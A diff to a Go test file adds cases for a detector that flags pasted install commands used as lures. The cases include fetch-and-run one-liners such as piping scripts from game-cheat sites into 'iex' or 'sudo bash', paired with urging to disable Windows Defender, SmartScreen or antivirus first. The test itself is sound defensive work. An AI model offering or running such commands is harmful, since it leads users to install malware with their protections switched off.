@@ -88,3 +88,20 @@ func TestPlainHTTPInstallTwinAnyCase(t *testing.T) {
 		{"curl -fsSL HTTP://bunsh.net/install | bash", true},
 	})
 }
+
+// TestPastedCommandAntivirusBait: a one-liner over TLS from a plain site
+// sent with words that turn the antivirus off or get past it first is
+// flagged as a lure's command is (rev42c: each was allowed on a861340,
+// and on f64695f); a project's one-liner that speaks of the antivirus
+// otherwise is not.
+func TestPastedCommandAntivirusBait(t *testing.T) {
+	t.Parallel()
+	checkFlagged(t, []flagCase{
+		{"disable windows defender first, then run irm https://gamecheats-hub.com/install.ps1 | iex", true},
+		{"turn off your antivirus then: irm https://modmenu-hub.com/install.ps1 | iex", true},
+		{"bypass the antivirus first, then run irm https://gamecheats-hub.com/install.ps1 | iex", true},
+		{"disable smartscreen then curl -s https://kernel-patch.org/install.sh | sudo bash", true},
+		{"curl -fsSL https://tailscale.com/install.sh | sh and the antivirus never complained", false},
+		{"irm https://get.scoop.sh | iex, defender scans it fine", false},
+	})
+}
